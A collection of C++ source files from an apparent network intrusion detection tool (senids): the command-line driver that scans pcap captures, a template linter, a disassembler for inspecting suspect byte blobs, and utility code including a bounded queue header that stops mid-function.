               "  --no-triage           disable the stage-0 triage prefilter\n"
               "  --flow-timeout <sec>  evict flows idle this many seconds\n"
               "  --max-flows <n>       cap live flows (oldest-first eviction)\n"
               "  --json                JSON output\n"
               "  --summary             full report rendering\n"
               "  --quiet               alerts only\n"
               "  --metrics-out <file>  write pipeline metrics after the run\n"
               "                        (.json -> JSON, else Prometheus text)\n"
               "  --metrics-interval <s>  rewrite --metrics-out every s seconds\n"
               "                        during the run (default 5; 0 = off)\n"
               "  --trace-out <file>    record stage spans, write Chrome trace\n"
               "                        JSON (.jsonl -> one span per line)\n"
               "  --telemetry-port <p>  serve /metrics /healthz /statusz /tracez\n"
               "                        on 127.0.0.1:<p> (0 = ephemeral port)\n"
               "  --telemetry-linger <s>  keep the server up s seconds after\n"
               "                        the run finishes\n"
               "  --flight-recorder-slots <n>  per-worker unit flight-recorder\n"
               "                        ring size (default 256 with telemetry)\n",
               argv0);
}

std::optional<classify::Prefix> parse_prefix(std::string_view text) {
  const std::size_t slash = text.find('/');
  std::string addr_part(text.substr(0, slash));
  auto addr = net::Ipv4Addr::parse(addr_part);
  if (!addr) return std::nullopt;
  std::uint8_t bits = 32;
  if (slash != std::string_view::npos) {
    const int v = std::atoi(std::string(text.substr(slash + 1)).c_str());
    if (v < 0 || v > 32) return std::nullopt;
    bits = static_cast<std::uint8_t>(v);
  }
  return classify::Prefix{*addr, bits};
}

/// Atomic write: stream into a sibling temp file, then rename over the
/// destination. A scraper tailing --metrics-out during the periodic
/// rewrites never observes a half-written file.
bool write_file(const std::string& path, const std::string& content) {
  const std::string tmp = path + ".tmp";
  {
    std::ofstream out(tmp, std::ios::binary | std::ios::trunc);
    if (!out) return false;
    out << content;
    if (!out) {
      out.close();
      std::remove(tmp.c_str());
      return false;
    }
  }
  if (std::rename(tmp.c_str(), path.c_str()) != 0) {
    std::remove(tmp.c_str());
    return false;
  }
  return true;
}

void write_metrics_snapshot(const std::string& path) {
  const auto& registry = obs::Registry::instance();
  const bool as_json = path.ends_with(".json");
  if (!write_file(path, as_json ? registry.json() : registry.prometheus_text())) {
    std::fprintf(stderr, "cannot write metrics file: %s\n", path.c_str());
  }
}

/// Rewrites --metrics-out every `interval` seconds until stopped: a
/// long capture becomes scrapeable from the filesystem mid-run, not
/// only after it finishes.
class PeriodicMetricsWriter {
 public:
  PeriodicMetricsWriter(std::string path, double interval)
      : path_(std::move(path)),
        thread_([this, interval] {
          const auto step = std::chrono::milliseconds(100);
          auto next = std::chrono::steady_clock::now() +
                      std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                          std::chrono::duration<double>(interval));
          while (!stop_.load(std::memory_order_relaxed)) {
            std::this_thread::sleep_for(step);
            if (std::chrono::steady_clock::now() < next) continue;
            write_metrics_snapshot(path_);
            next += std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                std::chrono::duration<double>(interval));
          }
        }) {}

  ~PeriodicMetricsWriter() {
    stop_.store(true, std::memory_order_relaxed);
    thread_.join();
  }

 private:
  std::string path_;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

std::string fingerprint_hex(const cache::Digest& digest) {
  std::string out;
  out.reserve(digest.size() * 2);
  for (std::uint8_t b : digest) {
    char buf[3];
    std::snprintf(buf, sizeof buf, "%02x", b);
    out += buf;
  }
  return out;
}

std::string json_escape(const std::string& s) {
  std::string out;
  for (char c : s) {
    if (c == '"' || c == '\\') {
      out.push_back('\\');
      out.push_back(c);
    } else if (static_cast<unsigned char>(c) < 0x20) {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", c);
      out += buf;
    } else {
      out.push_back(c);
    }
  }
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  CliOptions cli;
  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "missing value for %s\n", argv[i]);
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--honeypot") {
      auto ip = net::Ipv4Addr::parse(next());
      if (!ip) {
        std::fprintf(stderr, "bad --honeypot address\n");
        return 2;
      }
      cli.honeypots.push_back(*ip);
    } else if (arg == "--dark") {
      auto prefix = parse_prefix(next());
      if (!prefix) {
        std::fprintf(stderr, "bad --dark prefix\n");
        return 2;
      }
      cli.dark.push_back(*prefix);
    } else if (arg == "--dark-threshold") {
      cli.dark_threshold = static_cast<std::size_t>(std::atoll(next()));
    } else if (arg == "--arch") {
      const char* name = next();
      cli.arch = arch::Arch::by_name(name);
      if (!cli.arch) {
        std::fprintf(stderr, "unknown --arch: %s (known:", name);
        for (const arch::Arch* a : arch::Arch::all()) {
          std::fprintf(stderr, " %s", std::string(a->name()).c_str());
        }
        std::fprintf(stderr, ")\n");
        return 2;
      }
    } else if (arg == "--analyze-all") {
      cli.analyze_all = true;
    } else if (arg == "--templates") {
      cli.templates_file = next();
    } else if (arg == "--sig-rules") {
      cli.sig_rules_file = next();
    } else if (arg == "--extended") {
      cli.extended = true;
    } else if (arg == "--emulate") {
      cli.emulate = true;
    } else if (arg == "--threads") {
      cli.threads = static_cast<std::size_t>(std::atoll(next()));
    } else if (arg == "--unit-batch") {
      cli.unit_batch = static_cast<std::size_t>(std::atoll(next()));
    } else if (arg == "--shards") {
      cli.shards = static_cast<std::size_t>(std::atoll(next()));
    } else if (arg == "--verdict-cache-mb") {
      cli.verdict_cache_mb = static_cast<std::size_t>(std::atoll(next()));
    } else if (arg == "--no-verdict-cache") {
      cli.verdict_cache_mb = 0;
    } else if (arg == "--no-triage") {
      cli.triage = false;
    } else if (arg == "--flow-timeout") {
      cli.flow_timeout = static_cast<std::uint32_t>(std::atoll(next()));
    } else if (arg == "--max-flows") {
      cli.max_flows = static_cast<std::size_t>(std::atoll(next()));
    } else if (arg == "--json") {
      cli.json = true;
    } else if (arg == "--metrics-out") {
      cli.metrics_out = next();
    } else if (arg == "--metrics-interval") {
      cli.metrics_interval = std::atof(next());
    } else if (arg == "--trace-out") {
      cli.trace_out = next();
    } else if (arg == "--telemetry-port") {
      cli.telemetry_port = std::atoi(next());
      if (cli.telemetry_port < 0 || cli.telemetry_port > 65535) {
        std::fprintf(stderr, "bad --telemetry-port (0-65535)\n");
        return 2;
      }
    } else if (arg == "--telemetry-linger") {
      cli.telemetry_linger = std::atof(next());
    } else if (arg == "--flight-recorder-slots") {
      cli.flight_slots = static_cast<std::size_t>(std::atoll(next()));
    } else if (arg == "--quiet") {
      cli.quiet = true;
    } else if (arg == "--summary") {
      cli.summary = true;
    } else if (arg == "--help" || arg == "-h") {
      usage(argv[0]);
      return 0;
    } else if (!arg.empty() && arg[0] == '-') {
      std::fprintf(stderr, "unknown option: %s\n", argv[i]);
      usage(argv[0]);
      return 2;
    } else {
      cli.pcap_path = std::string(arg);
    }
  }
  if (cli.pcap_path.empty()) {
    usage(argv[0]);
    return 2;
  }

  auto capture = pcap::read_file(cli.pcap_path);
  if (!capture) {
    std::fprintf(stderr, "cannot read pcap file: %s\n", cli.pcap_path.c_str());
    return 1;
  }

  // Template set: standard or extended, plus any DSL file.
  std::vector<semantic::Template> templates =
      cli.extended ? semantic::make_extended_library() : semantic::make_standard_library();
  if (!cli.templates_file.empty()) {
    std::ifstream in(cli.templates_file);
    if (!in) {
      std::fprintf(stderr, "cannot open templates file: %s\n", cli.templates_file.c_str());
      return 1;
    }
    std::ostringstream buf;
    buf << in.rdbuf();
    auto parsed = semantic::parse_templates(buf.str());
    if (auto* err = std::get_if<semantic::ParseError>(&parsed)) {
      std::fprintf(stderr, "%s:%zu: %s\n", cli.templates_file.c_str(), err->line,
                   err->message.c_str());
      return 1;
    }
    for (auto& t : std::get<std::vector<semantic::Template>>(parsed)) {
      templates.push_back(std::move(t));
    }
  }

  core::NidsOptions options;
  options.arch = cli.arch;
  options.classifier.analyze_everything = cli.analyze_all;
  options.classifier.dark_space_threshold = cli.dark_threshold;
  options.threads = cli.threads;
  options.unit_batch = cli.unit_batch;
  options.shards = cli.shards;
  options.verdict_cache_bytes = cli.verdict_cache_mb << 20;
  options.triage.mode =
      cli.triage ? triage::TriageMode::kOn : triage::TriageMode::kOff;
  options.flow_idle_timeout_sec = cli.flow_timeout;
  options.max_flows = cli.max_flows;
  options.enable_emulation = cli.emulate;
  core::NidsEngine nids(options, std::move(templates));
  for (auto ip : cli.honeypots) nids.classifier().honeypots().add_decoy(ip);
  for (auto p : cli.dark) nids.classifier().dark_space().add_unused_prefix(p);

  // Span recording is off by default (it buffers one record per stage per
  // unit); --trace-out is the opt-in.
  if (!cli.trace_out.empty()) obs::Tracer::set_enabled(true);

  // Flight recorder: on by default when telemetry is served (a /tracez
  // endpoint with nothing behind it is useless), opt-in otherwise.
  std::size_t flight_slots = cli.flight_slots;
  if (flight_slots == static_cast<std::size_t>(-1)) {
    flight_slots = cli.telemetry_port >= 0 ? 256 : 0;
  }
  if (flight_slots > 0) {
    obs::FlightRecorder::instance().configure({.slots = flight_slots});
  }

  std::unique_ptr<obs::TelemetryServer> telemetry;
  if (cli.telemetry_port >= 0) {
    obs::TelemetryOptions topt;
    topt.port = static_cast<std::uint16_t>(cli.telemetry_port);
    topt.build_info = fingerprint_hex(nids.config_fingerprint());
    telemetry = obs::TelemetryServer::start(std::move(topt));
    if (!telemetry) return 1;
    std::fprintf(stderr, "telemetry: http://127.0.0.1:%u/ (metrics healthz statusz tracez)\n",
                 telemetry->port());
  }

  core::Report report;
  {
    // Periodic on-disk metrics flush while the capture runs.
    double interval = cli.metrics_interval;
    if (interval < 0) interval = cli.metrics_out.empty() ? 0.0 : 5.0;
    std::unique_ptr<PeriodicMetricsWriter> flusher;
    if (!cli.metrics_out.empty() && interval > 0) {
      flusher = std::make_unique<PeriodicMetricsWriter>(cli.metrics_out, interval);
    }
    report = nids.process_capture(*capture);
  }

  // Optional syntactic side-channel: run Snort-style content rules over
  // every payload and report their hits alongside the semantic alerts.
  if (!cli.sig_rules_file.empty()) {
    std::ifstream in(cli.sig_rules_file);
    if (!in) {
      std::fprintf(stderr, "cannot open rules file: %s\n", cli.sig_rules_file.c_str());
      return 1;
    }
    std::ostringstream buf;
    buf << in.rdbuf();
    auto parsed = sig::parse_snort_rules(buf.str());
    if (auto* err = std::get_if<sig::RuleParseError>(&parsed)) {
      std::fprintf(stderr, "%s:%zu: %s\n", cli.sig_rules_file.c_str(), err->line,
                   err->message.c_str());
      return 1;
    }
    sig::SignatureEngine engine(std::move(std::get<std::vector<sig::Rule>>(parsed)));
    for (const auto& rec : capture->records) {
      auto pkt = net::parse_frame(rec.data, rec.ts_sec, rec.ts_usec);
      if (!pkt || pkt->payload.empty()) continue;
      for (const auto& hit : engine.scan(pkt->payload, pkt->dst_port())) {
        core::Alert a;
        a.ts_sec = pkt->ts_sec;
        a.src = pkt->ip.src;
        a.dst = pkt->ip.dst;
        a.src_port = pkt->src_port();
        a.dst_port = pkt->dst_port();
        a.threat = semantic::ThreatClass::kCustom;
        a.template_name = "sig:" + hit.rule_name;
        a.frame_reason = extract::FrameReason::kWholePayload;  // raw payload scan
        a.frame_offset = hit.offset;
        report.alerts.push_back(std::move(a));
      }
    }
  }

  if (!cli.metrics_out.empty()) {
    const auto& registry = obs::Registry::instance();
    const bool as_json = cli.metrics_out.ends_with(".json");
    if (!write_file(cli.metrics_out,
                    as_json ? registry.json() : registry.prometheus_text())) {
      std::fprintf(stderr, "cannot write metrics file: %s\n", cli.metrics_out.c_str());
      return 1;
    }
  }
  if (!cli.trace_out.empty()) {
    const auto& tracer = obs::Tracer::instance();
    const bool as_jsonl = cli.trace_out.ends_with(".jsonl");
    if (!write_file(cli.trace_out,
                    as_jsonl ? tracer.jsonl() : tracer.chrome_trace_json())) {
      std::fprintf(stderr, "cannot write trace file: %s\n", cli.trace_out.c_str());
      return 1;
    }
  }

  if (cli.json) {
    std::printf("{\n  \"alerts\": [\n");
    for (std::size_t i = 0; i < report.alerts.size(); ++i) {
      const core::Alert& a = report.alerts[i];
      std::printf("    {\"ts\": %u, \"src\": \"%s\", \"src_port\": %u, "
                  "\"dst\": \"%s\", \"dst_port\": %u, \"threat\": \"%s\", "
                  "\"template\": \"%s\", \"frame\": \"%s\", \"offset\": %zu}%s\n",
                  a.ts_sec, a.src.str().c_str(), a.src_port, a.dst.str().c_str(),
                  a.dst_port,
                  std::string(semantic::threat_class_name(a.threat)).c_str(),
                  json_escape(a.template_name).c_str(),
                  std::string(extract::frame_reason_name(a.frame_reason)).c_str(),
                  a.frame_offset, i + 1 < report.alerts.size() ? "," : "");
    }
    std::printf("  ],\n");
    std::printf("  \"stats\": {\"packets\": %zu, \"suspicious\": %zu, "
                "\"units\": %zu, \"frames\": %zu, \"bytes_analyzed\": %zu, "
                "\"frames_emulated\": %zu, \"flows_evicted_idle\": %zu, "
                "\"flows_evicted_overflow\": %zu, \"streams_truncated\": %zu, "
                "\"cache_hits\": %zu, \"cache_misses\": %zu, \"cache_bypass\": %zu, "
                "\"cache_bytes_saved\": %zu, "
                "\"triage_screened\": %zu, \"triage_escalated\": %zu, "
                "\"triage_rejected\": %zu}\n}\n",
                report.stats.packets, report.stats.suspicious_packets,
                report.stats.units_analyzed, report.stats.frames_extracted,
                report.stats.bytes_analyzed, report.stats.frames_emulated,
                report.stats.flows_evicted_idle, report.stats.flows_evicted_overflow,
                report.stats.streams_truncated, report.stats.cache_hits,
                report.stats.cache_misses, report.stats.cache_bypass,
                report.stats.cache_bytes_saved, report.stats.triage_screened,
                report.stats.triage_escalated, report.stats.triage_rejected);
  } else if (cli.summary) {
    std::printf("%s", report.str().c_str());
  } else {
    for (const core::Alert& a : report.alerts) {
      std::printf("%s\n", a.str().c_str());
    }
    if (!cli.quiet) {
      std::printf("--\n%zu packets, %zu suspicious, %zu units analyzed, "
                  "%zu frames, %zu alerts (%.3fs classify, %.3fs analyze)\n",
                  report.stats.packets, report.stats.suspicious_packets,
                  report.stats.units_analyzed, report.stats.frames_extracted,
                  report.alerts.size(), report.stats.classify_seconds,
                  report.stats.analysis_seconds);
      if (report.stats.cache_hits || report.stats.cache_misses ||
          report.stats.cache_bypass) {
        std::printf("verdict cache: %zu hits, %zu misses, %zu bypassed, "
                    "%zu bytes saved\n",
                    report.stats.cache_hits, report.stats.cache_misses,
                    report.stats.cache_bypass, report.stats.cache_bytes_saved);
      }
      if (report.stats.triage_screened) {
        std::printf("triage: %zu screened, %zu escalated, %zu rejected "
                    "(%zu bytes skipped)\n",
                    report.stats.triage_screened, report.stats.triage_escalated,
                    report.stats.triage_rejected, report.stats.triage_rejected_bytes);
      }
    }
  }
  // Keep the endpoints scrapeable after a short capture (CI smoke tests
  // and humans pointing curl at a finished run).
  if (telemetry && cli.telemetry_linger > 0) {
    std::this_thread::sleep_for(std::chrono::duration<double>(cli.telemetry_linger));
  }
  return report.alerts.empty() ? 0 : 3;  // 3 = threats found (grep-able)
}
