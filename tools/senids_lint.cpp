// senids_lint: static checker for behavioral template files. Parses each
// *.tmpl through the production DSL parser, then runs the
// senids::verify template linter: undefined variables, unsatisfiable
// clauses (impossible store widths, constants wider than the store,
// invertibility demanded of constant functions), malformed patterns, and
// duplicate/shadowed templates. CI runs it over templates/ so a broken
// template fails the build instead of silently never matching.
//
//   senids_lint [options] <file|directory>...
//     --quiet          print errors only (suppress warnings)
//     --werror         treat warnings as errors
//
// Exit status: 0 clean, 1 parse or lint errors, 2 usage/IO error.
#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "semantic/dsl.hpp"
#include "verify/lint.hpp"
#include "verify/verify.hpp"

using namespace senids;

namespace {

int usage(const char* argv0, int rc) {
  std::fprintf(stderr, "usage: %s [--quiet] [--werror] <file|directory>...\n", argv0);
  return rc;
}

/// Expand directories to the sorted *.tmpl files they contain.
bool expand_inputs(const std::vector<std::string>& args, std::vector<std::string>& files) {
  namespace fs = std::filesystem;
  for (const std::string& arg : args) {
    std::error_code ec;
    if (fs::is_directory(arg, ec)) {
      std::vector<std::string> found;
      for (const auto& entry : fs::directory_iterator(arg, ec)) {
        if (entry.is_regular_file() && entry.path().extension() == ".tmpl") {
          found.push_back(entry.path().string());
        }
      }
      if (ec) {
        std::fprintf(stderr, "senids_lint: cannot read directory %s: %s\n", arg.c_str(),
                     ec.message().c_str());
        return false;
      }
      std::sort(found.begin(), found.end());
      if (found.empty()) {
        std::fprintf(stderr, "senids_lint: no *.tmpl files in %s\n", arg.c_str());
        return false;
      }
      files.insert(files.end(), found.begin(), found.end());
    } else {
      files.push_back(arg);
    }
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  bool quiet = false, werror = false;
  std::vector<std::string> args;
  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    if (arg == "--quiet") {
      quiet = true;
    } else if (arg == "--werror") {
      werror = true;
    } else if (arg == "--help" || arg == "-h") {
      return usage(argv[0], 0);
    } else if (!arg.empty() && arg[0] == '-') {
      return usage(argv[0], 2);
    } else {
      args.emplace_back(arg);
    }
  }
  if (args.empty()) return usage(argv[0], 2);

  std::vector<std::string> files;
  if (!expand_inputs(args, files)) return 2;

  std::size_t templates_seen = 0, errors = 0, warnings = 0;
  std::map<std::string, std::string> name_to_file;  // cross-file duplicate names
  for (const std::string& file : files) {
    std::ifstream in(file, std::ios::binary);
    if (!in) {
      std::fprintf(stderr, "senids_lint: cannot open %s\n", file.c_str());
      return 2;
    }
    std::ostringstream buf;
    buf << in.rdbuf();

    auto parsed = semantic::parse_templates(buf.str());
    if (const auto* err = std::get_if<semantic::ParseError>(&parsed)) {
      std::fprintf(stderr, "%s:%zu: error: %s\n", file.c_str(), err->line,
                   err->message.c_str());
      ++errors;
      continue;
    }
    const auto& templates = std::get<std::vector<semantic::Template>>(parsed);
    templates_seen += templates.size();

    verify::Report report = verify::lint_templates(templates);
    for (const semantic::Template& t : templates) {
      auto [it, fresh] = name_to_file.try_emplace(t.name, file);
      if (!fresh && it->second != file) {
        report.error("template '" + t.name + "'",
                     "duplicate template name (first defined in " + it->second + ")");
      }
    }
    for (const verify::Diagnostic& d : report.diags) {
      if (quiet && d.severity == verify::Severity::kWarning) continue;
      std::fprintf(stderr, "%s: %s\n", file.c_str(), d.str().c_str());
    }
    errors += report.errors();
    warnings += report.warnings();
  }

  const bool failed = errors > 0 || (werror && warnings > 0);
  if (!quiet) {
    std::printf("senids_lint: %zu template%s in %zu file%s, %zu error%s, %zu warning%s\n",
                templates_seen, templates_seen == 1 ? "" : "s", files.size(),
                files.size() == 1 ? "" : "s", errors, errors == 1 ? "" : "s", warnings,
                warnings == 1 ? "" : "s");
  }
  return failed ? 1 : 0;
}
