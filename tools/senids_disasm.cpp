// senids_disasm: inspect a binary blob the way the NIDS does — linear
// listing, execution-order trace, lifted semantic events, junk marking,
// and template verdicts. Input is a file of raw bytes or hex text.
//
//   senids_disasm [options] <file|->
//     --hex            input is hex text (whitespace tolerated)
//     --entry <n>      trace entry offset (default: best candidate run)
//     --events         print lifted semantic events
//     --junk           mark dead (junk) instructions in the listing
//     --match          run the standard template library and report
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

#include "ir/deadcode.hpp"
#include "ir/lifter.hpp"
#include "semantic/analyzer.hpp"
#include "semantic/library.hpp"
#include "util/hexdump.hpp"
#include "arch/format.hpp"
#include "arch/scan.hpp"

using namespace senids;

int main(int argc, char** argv) {
  bool hex = false, events = false, junk = false, match = false;
  std::size_t entry = SIZE_MAX;
  std::string path;
  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    if (arg == "--hex") {
      hex = true;
    } else if (arg == "--events") {
      events = true;
    } else if (arg == "--junk") {
      junk = true;
    } else if (arg == "--match") {
      match = true;
    } else if (arg == "--entry" && i + 1 < argc) {
      entry = static_cast<std::size_t>(std::strtoull(argv[++i], nullptr, 0));
    } else if (arg == "--help" || arg == "-h" || (!arg.empty() && arg[0] == '-' && arg != "-")) {
      std::fprintf(stderr,
                   "usage: %s [--hex] [--entry <n>] [--events] [--junk] [--match] <file|->\n",
                   argv[0]);
      return arg == "--help" || arg == "-h" ? 0 : 2;
    } else {
      path = std::string(arg);
    }
  }
  if (path.empty()) {
    std::fprintf(stderr, "missing input file (use - for stdin)\n");
    return 2;
  }

  std::string raw;
  if (path == "-") {
    std::ostringstream buf;
    buf << std::cin.rdbuf();
    raw = buf.str();
  } else {
    std::ifstream in(path, std::ios::binary);
    if (!in) {
      std::fprintf(stderr, "cannot open %s\n", path.c_str());
      return 1;
    }
    std::ostringstream buf;
    buf << in.rdbuf();
    raw = buf.str();
  }

  util::Bytes code;
  if (hex) {
    auto parsed = util::from_hex(raw);
    if (!parsed) {
      std::fprintf(stderr, "invalid hex input\n");
      return 1;
    }
    code = std::move(*parsed);
  } else {
    code = util::to_bytes(raw);
  }
  if (code.empty()) {
    std::fprintf(stderr, "empty input\n");
    return 1;
  }

  // Pick the entry: explicit, or the longest candidate run.
  if (entry == SIZE_MAX) {
    auto runs = arch::find_code_runs(code, 1);
    entry = 0;
    std::size_t best = 0;
    for (const auto& run : runs) {
      if (run.insn_count > best) {
        best = run.insn_count;
        entry = run.start;
      }
    }
  }

  auto trace = arch::execution_trace(code, entry);
  std::printf("; %zu bytes, entry +0x%zx, %zu instructions in execution order\n",
              code.size(), entry, trace.size());

  ir::DeadCodeResult dead;
  if (junk) dead = ir::find_dead_code(trace);
  for (std::size_t i = 0; i < trace.size(); ++i) {
    std::printf("%08zx:  %-40s%s\n", trace[i].offset, arch::format(trace[i]).c_str(),
                junk && dead.dead[i] ? " ; junk" : "");
  }

  if (events) {
    auto lifted = ir::lift(trace);
    std::printf("\n; semantic events (%zu, %zu approximations)\n", lifted.events.size(),
                lifted.approximated);
    for (const auto& ev : lifted.events) {
      switch (ev.kind) {
        case ir::EventKind::kMemWrite:
          std::printf("  @%04zx  mem%u[%s] := %s\n", ev.insn_offset, ev.width,
                      ir::to_string(ev.addr).c_str(), ir::to_string(ev.value).c_str());
          break;
        case ir::EventKind::kRegWrite:
          std::printf("  @%04zx  %s := %s\n", ev.insn_offset,
                      arch::Reg{ev.reg, arch::RegWidth::k32}.name().data(),
                      ir::to_string(ev.value).c_str());
          break;
        case ir::EventKind::kBranch:
          std::printf("  @%04zx  branch%s%s target=%s\n", ev.insn_offset,
                      ev.conditional ? " cond" : "", ev.is_call ? " call" : "",
                      ev.target ? std::to_string(*ev.target).c_str() : "?");
          break;
        case ir::EventKind::kSyscall:
          std::printf("  @%04zx  int 0x%02x eax=%s ebx=%s\n", ev.insn_offset, ev.vector,
                      ir::to_string(ev.syscall_regs[0]).c_str(),
                      ir::to_string(ev.syscall_regs[3]).c_str());
          break;
      }
    }
  }

  if (match) {
    semantic::SemanticAnalyzer::Options opts;
    opts.min_run_insns = 1;  // hand-fed snippets can be tiny
    semantic::SemanticAnalyzer analyzer(semantic::make_extended_library(), opts);
    auto detections = analyzer.analyze(code);
    std::printf("\n; template verdicts\n");
    if (detections.empty()) std::printf("  no matches\n");
    for (const auto& d : detections) {
      std::printf("  MATCH %-28s (%s) entry=+0x%zx\n", d.template_name.c_str(),
                  std::string(semantic::threat_class_name(d.threat)).c_str(),
                  d.entry_offset);
      // Re-run the match at the detected entry to show the explanation.
      auto mtrace = arch::execution_trace(code, d.entry_offset);
      auto mlift = ir::lift(mtrace);
      semantic::LiftedCode lc{&mtrace, &mlift.events, code};
      for (const auto& t : analyzer.templates()) {
        if (t.name != d.template_name) continue;
        if (auto m = semantic::match_template(t, lc)) {
          std::printf("%s", semantic::format_match(t, lc, *m).c_str());
        }
      }
    }
    return detections.empty() ? 0 : 3;
  }
  return 0;
}
