#include "util/hexdump.hpp"

#include <cctype>
#include <cstdio>

namespace senids::util {

std::string hexdump(ByteView data, std::size_t base_offset) {
  std::string out;
  char line[128];
  for (std::size_t row = 0; row < data.size(); row += 16) {
    int n = std::snprintf(line, sizeof line, "%08zx  ", base_offset + row);
    out.append(line, static_cast<std::size_t>(n));
    for (std::size_t i = 0; i < 16; ++i) {
      if (row + i < data.size()) {
        n = std::snprintf(line, sizeof line, "%02x ", data[row + i]);
        out.append(line, static_cast<std::size_t>(n));
      } else {
        out.append("   ");
      }
      if (i == 7) out.push_back(' ');
    }
    out.append(" |");
    for (std::size_t i = 0; i < 16 && row + i < data.size(); ++i) {
      unsigned char c = data[row + i];
      out.push_back(std::isprint(c) ? static_cast<char>(c) : '.');
    }
    out.append("|\n");
  }
  return out;
}

}  // namespace senids::util
