// Wall-clock stopwatch used by the bench harnesses to report the same
// per-sample running times the paper tabulates.
#pragma once

#include <chrono>

namespace senids::util {

class WallTimer {
 public:
  WallTimer() noexcept : start_(Clock::now()) {}

  void reset() noexcept { start_ = Clock::now(); }

  [[nodiscard]] double seconds() const noexcept {
    return std::chrono::duration<double>(Clock::now() - start_).count();
  }

  [[nodiscard]] double millis() const noexcept { return seconds() * 1e3; }

 private:
  using Clock = std::chrono::steady_clock;
  Clock::time_point start_;
};

}  // namespace senids::util
