#include "util/prng.hpp"

namespace senids::util {

namespace {
std::uint64_t splitmix64(std::uint64_t& x) noexcept {
  x += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = x;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) noexcept {
  return (x << k) | (x >> (64 - k));
}
}  // namespace

Prng::Prng(std::uint64_t seed) noexcept {
  for (auto& s : s_) s = splitmix64(seed);
  // xoshiro must not start from the all-zero state.
  if ((s_[0] | s_[1] | s_[2] | s_[3]) == 0) s_[0] = 1;
}

std::uint64_t Prng::next() noexcept {
  const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = rotl(s_[3], 45);
  return result;
}

std::uint64_t Prng::below(std::uint64_t bound) noexcept {
  // Lemire-style rejection: draw until the value falls in the largest
  // multiple of `bound` representable in 64 bits.
  const std::uint64_t limit = ~std::uint64_t{0} - (~std::uint64_t{0} % bound) - 1;
  std::uint64_t v = next();
  while (v > limit) v = next();
  return v % bound;
}

std::int64_t Prng::range(std::int64_t lo, std::int64_t hi) noexcept {
  const std::uint64_t span = static_cast<std::uint64_t>(hi - lo) + 1;
  return lo + static_cast<std::int64_t>(below(span));
}

bool Prng::chance(double p) noexcept {
  if (p <= 0.0) return false;
  if (p >= 1.0) return true;
  // 53-bit mantissa draw gives a uniform double in [0,1).
  const double u = static_cast<double>(next() >> 11) * 0x1.0p-53;
  return u < p;
}

Bytes Prng::bytes(std::size_t n) {
  Bytes out(n);
  for (auto& b : out) b = byte();
  return out;
}

}  // namespace senids::util
