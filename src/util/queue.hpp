// Bounded multi-producer/multi-consumer queue. Backpressure container
// for deployments that decouple a capture thread from analysis sessions:
// producers block (or fail, with try_push) when the queue is full, so a
// traffic burst cannot exhaust memory.
//
// Items can carry an optional *weight* (typically their payload size in
// bytes). When the queue is constructed with a weight budget, producers
// also block while the queued weight would exceed the budget — the item
// count bounds queue management overhead, the weight budget bounds actual
// memory. An over-budget item is still admitted into an empty queue so a
// single oversized unit can never deadlock the pipeline.
//
// Consumers that process items faster than one mutex round-trip per item
// should drain with pop_batch: it moves up to N items out under a single
// lock acquisition and wakes every blocked producer once, so the lock and
// condition-variable cost is amortized over the batch instead of paid per
// item (the stage-(b)-(e) worker loop does exactly this — see
// core/engine.cpp and NidsOptions::unit_batch). pop_batch makes no
// fairness or grouping promise beyond FIFO: a batch is simply the oldest
// min(N, size) items at the moment the consumer acquired the lock, so
// any partition of a FIFO drain into batches observes the same sequence.
//
// Locking: everything mutable is GUARDED_BY(mu_) — the annotations are
// compiler-enforced under Clang (see util/sync.hpp). Condition-variable
// waits are written as explicit predicate loops so the thread-safety
// analysis sees every guarded access inside the locked scope.
#pragma once

#include <chrono>
#include <deque>
#include <optional>
#include <utility>
#include <vector>

#include "obs/metrics.hpp"
#include "util/sync.hpp"

namespace senids::util {

/// Optional observability hooks for a BoundedQueue. All pointers must
/// outlive the queue; any may be null. Depth/bytes gauges track the
/// queue contents, the backpressure pair records every producer push
/// that had to block and for how long.
struct QueueMetrics {
  obs::Gauge* depth = nullptr;
  obs::Gauge* depth_peak = nullptr;  // high watermark (Gauge::set_max)
  obs::Gauge* bytes = nullptr;
  obs::Counter* pushed = nullptr;
  obs::Counter* backpressure_waits = nullptr;
  obs::Histogram* backpressure_wait_seconds = nullptr;
};

template <typename T>
class BoundedQueue {
 public:
  /// `capacity` bounds the item count; `max_weight` (0 = unlimited)
  /// bounds the summed weights of queued items.
  explicit BoundedQueue(std::size_t capacity, std::size_t max_weight = 0)
      : capacity_(capacity ? capacity : 1), max_weight_(max_weight) {}

  BoundedQueue(const BoundedQueue&) = delete;
  BoundedQueue& operator=(const BoundedQueue&) = delete;

  /// Attach observability hooks (call before producers/consumers start;
  /// `metrics` must outlive the queue). Nullptr detaches.
  void set_metrics(const QueueMetrics* metrics) noexcept {
    MutexLock lock(mu_);
    metrics_ = metrics;
  }

  /// Blocking push; returns false if the queue was closed.
  bool push(T value, std::size_t weight = 0) {
    {
      MutexLock lock(mu_);
      if (metrics_ && !closed_ && !admits(weight)) {
        // The producer is about to block: that is the backpressure signal
        // operators watch, so record the event and how long it lasted.
        if (metrics_->backpressure_waits) metrics_->backpressure_waits->add();
        const auto wait_start = std::chrono::steady_clock::now();
        while (!admits(weight) && !closed_) not_full_.wait(mu_);
        if (metrics_->backpressure_wait_seconds) {
